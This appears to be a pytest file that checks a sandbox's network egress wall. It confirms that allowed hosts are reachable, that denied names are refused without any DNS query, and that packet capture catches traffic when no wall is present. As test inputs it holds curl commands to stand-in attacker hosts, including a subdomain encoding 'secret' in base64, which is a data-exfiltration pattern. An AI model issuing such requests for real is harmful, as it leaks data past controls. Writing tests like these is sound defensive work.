"""The wall as it is meant to be used, and that the capture would see what goes past it."""
from internet import ALLOWED, DNS, EVIL


def test_what_is_allowed_is_reached_and_only_its_packets_leave(internet, walled):
    with internet.only((ALLOWED, 80), (ALLOWED, 443), names=["ok.test", "a.w.test"]) as seen:
        assert walled.shell("curl -sS -m 10 http://ok.test/")["stdout"] == f"reached {ALLOWED}\n"
        assert walled.shell("curl -sSk -m 10 https://ok.test/")["stdout"] == f"reached {ALLOWED}\n"
        assert walled.shell("curl -sS -m 10 http://a.w.test/")["stdout"] == f"reached {ALLOWED}\n"
    assert {packet.port for packet in seen if packet.opens} == {80, 443}
    assert internet.machine_dns.queries == []


def test_21_a_denied_name_is_refused_without_a_question_to_any_name_server(internet, walled):
    with internet.only():
        for name in ("evil.test", "c2VjcmV0.evil.test", "w.test", "ok.test.evil.test", "redis.ok.test"):
            told = walled.shell(f"curl -sS -m 10 -o /dev/null -D - http://{name}/; "
                                f"curl -sS -m 10 https://{name}/ 2>&1")["stdout"]
            assert "403" in told and "X-Sandboxkit-Egress: denied; reason=not_in_allow_list" in told, told
    assert internet.dns.queries == internet.machine_dns.queries == []


def test_the_capture_sees_what_goes_past_a_wall_that_is_not_there(internet, unwalled, plain):
    """If this fails, no other test here proves anything."""
    with internet.watch() as seen:
        assert unwalled.shell(f"curl -sS -m 10 http://{EVIL}/")["stdout"] == f"reached {EVIL}\n"
        unwalled.shell("curl -sS -m 10 http://leak.evil.test/")
        assert "reached" in plain.run(["curl", "-sS", "-m", "10", "http://[2606:2800:217::66]/"]).stdout
    assert {(p.to, p.port) for p in seen if p.opens} == {(EVIL, 80), ("2606:2800:217::66", 80)}
    # An unwalled sandbox asks the machine's own resolver, past any proxy.
    assert "leak.evil.test" in internet.machine_dns.asked()
    assert internet.dns.queries == [], DNS
